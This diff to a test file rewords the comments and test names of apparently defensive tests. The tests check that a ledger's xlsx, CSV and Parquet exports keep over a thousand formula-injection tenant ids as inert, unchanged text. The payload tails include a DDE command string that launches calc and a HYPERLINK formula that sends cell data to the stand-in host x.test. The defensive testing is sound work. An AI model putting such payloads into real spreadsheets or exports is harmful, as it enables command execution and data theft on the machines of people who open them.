@@ -20,17 +20,17 @@ const LEADS = [
 const TAILS = [
   ...["cmd|'/c calc'!A1", 'SUM(1;1)', '1', 'HYPERLINK("http://x.test/?"&A1,"x")', '_x000D_', '<b>&amp;', 'a,b', ''],
 ];
-/** Tenants whose ids some spreadsheet would run, by what they begin with; each once. */
+/** Distinct tenant ids that some spreadsheet would run as a formula. */
 const HOSTILE = [
   ...new Set(
     LEADS.flatMap((lead) => OPERATORS.flatMap((operator) => TAILS.map((tail) => `${lead}${operator}${tail}`))),
   ),
 ];
 
-/** A cell that a spreadsheet would run, whatever it skips before it looks. */
+/** Matches a cell that a spreadsheet would run, after the characters it skips. */
 const RUNS = /^[\p{Z}\p{C}"]*[=+\-@＝＋－＠]/u;
 
-/** A ledger with a record of each of them, and what its view says of them. */
+/** Creates a ledger with a record of each id, and returns the rows of its view. */
 async function hostileLedger() {
   const { connection } = openLedger();
   await publish(
@@ -46,18 +46,18 @@ async function hostileLedger() {
   return { ids, write };
 }
 
-test('a thousand hostile ids and more stand in the ledger as the service said them', async () => {
+test('the ledger stores over a thousand hostile ids exactly as the service sent them', async () => {
   expect(HOSTILE.length).toBeGreaterThan(1000);
   expect(new Set((await hostileLedger()).ids)).toEqual(new Set(HOSTILE));
 });
 
-test('are text in a workbook, and another reader gives them back as they are', async () => {
+test('are text in a workbook, and another reader returns them unchanged', async () => {
   const { ids, write } = await hostileLedger();
   const path = await write('xlsx');
   const sheets = (await readExcel(path, { trim: false })) as unknown as { data: unknown[][] }[];
   const [header, ...rows] = sheets[0]?.data ?? [];
   const column = header?.indexOf('tenant_id') ?? -1;
-  // Below them an empty row and the total.
+  // An empty row and the total follow.
   expect(rows.slice(0, ids.length).map((cells) => cells[column])).toEqual(ids);
   expect(rows).toHaveLength(ids.length + 2);
   const worksheets = Object.entries(zipEntries(readFileSync(path))).filter(([name]) => name.includes('worksheets/'));
@@ -70,7 +70,7 @@ test('are text in a workbook, and another reader gives them back as they are', a
   }
 });
 
-test('are run by no spreadsheet from CSV, whatever it cuts the lines by, and lose nothing', async () => {
+test('are not run from CSV by a spreadsheet with any separator, and lose nothing', async () => {
   const { ids, write } = await hostileLedger();
   for (const isGerman of [false, true]) {
     const text = readFileSync(await write('csv', { isGerman }), 'utf8');
@@ -87,10 +87,10 @@ test('are run by no spreadsheet from CSV, whatever it cuts the lines by, and los
   expect(raw.map(({ tenant_id }) => tenant_id)).toEqual(ids);
 });
 
-test('come back from Parquet as they are', async () => {
+test('are unchanged in Parquet', async () => {
   const { ids, write } = await hostileLedger();
   const duck = await openDuckDb();
-  // As bytes: a mark at the start of a text is lost on its way out of DuckDB.
+  // Compared as bytes: DuckDB drops a byte order mark at the start of a text.
   const rows = await duck.rows(`SELECT hex(tenant_id) AS bytes FROM read_parquet('${await write('parquet')}')`);
   expect(rows.map(({ bytes }) => Buffer.from(String(bytes), 'hex').toString())).toEqual(ids);
 });
